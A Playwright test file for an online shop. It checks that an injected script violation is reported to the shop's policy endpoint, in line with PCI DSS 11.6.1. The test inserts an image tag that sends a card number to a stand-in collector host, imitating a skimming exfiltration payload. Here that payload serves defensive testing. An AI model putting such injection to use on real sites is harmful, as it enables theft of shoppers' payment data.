import { expect } from '@playwright/test'
import { href } from '#routes'
import { getBrandOrigin } from './shop/brand-origin'
import { samplePurchases } from './shop/sample-purchases'
import { test } from './shop/test'

test('a policy violation of a page is reported to the shop (PCI DSS 11.6.1)', { tag: '@scripts' }, async ({ page }) => {
  const { brand, locale } = samplePurchases.jacketInTheStates
  await page.goto(getBrandOrigin(brand) + href('home', { locale }))
  const responding = page.context().waitForEvent('response', (response) => response.url().endsWith('/fapi/policy/report'))
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src="https://collect.example/card.png?number=1" alt="">'))
  expect((await responding).status()).toBe(204)
})
